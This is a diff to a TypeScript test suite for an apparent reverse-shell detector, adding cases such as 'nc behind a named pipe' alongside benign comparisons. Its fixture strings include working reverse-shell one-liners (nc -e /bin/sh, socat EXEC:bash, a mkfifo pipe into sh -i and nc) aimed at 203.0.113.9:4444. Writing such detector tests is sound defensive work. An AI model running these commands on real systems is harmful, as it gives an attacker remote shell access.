@@ -29,6 +29,11 @@ const nc = program('/usr/bin/nc.traditional -e /bin/sh 203.0.113.9 4444', ['/usr
 const python = '/usr/bin/python3.11 -c import socket,os,pty';
 const socat = '/usr/bin/socat TCP:203.0.113.9:4444 EXEC:bash,pty,stderr,setsid';
 
+const script = '/usr/bin/dash -c mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f';
+const PIPES = { standardStreams: { input: 'pipe', output: 'pipe', error: 'pipe' } } as const;
+const piped = program('/usr/bin/dash -i', [script], PIPES);
+const relay = program('/usr/bin/nc.openbsd 203.0.113.9 4444', [script]);
+
 describe('attacks', () => {
   const attacks: readonly [string, readonly HostEvent[]][] = [
     ['bash over /dev/tcp', [connects(program('/usr/bin/bash -i', ['/usr/bin/bash']))]],
@@ -42,6 +47,8 @@ describe('attacks', () => {
       'socat with a terminal',
       [connects(program(socat)), starts(program('/bin/bash -li', [socat], TERMINAL), START_MS + 9)],
     ],
+    ['nc behind a named pipe', [starts(piped), connects(relay)]],
+    ['nc behind a named pipe, which is quicker', [connects(relay), starts(piped)]],
     ['a shell at a socket of an unknown program', [starts(program('/bin/sh', ['/tmp/.x'], SOCKETS))]],
   ];
   for (const [name, events] of attacks) {
@@ -86,6 +93,13 @@ describe('what is usual', () => {
     [
       'a script that checks a local port',
       [connects(program('/usr/bin/bash /usr/local/bin/wait-for-it.sh'), '127.0.0.1')],
+    ],
+    [
+      'a script in a pipe that also looks whether a port is open',
+      [
+        starts(program('/usr/bin/bash', [script], { standardStreams: { input: 'pipe', output: 'file' } })),
+        connects(relay),
+      ],
     ],
     [
       'a shell long after a connection',
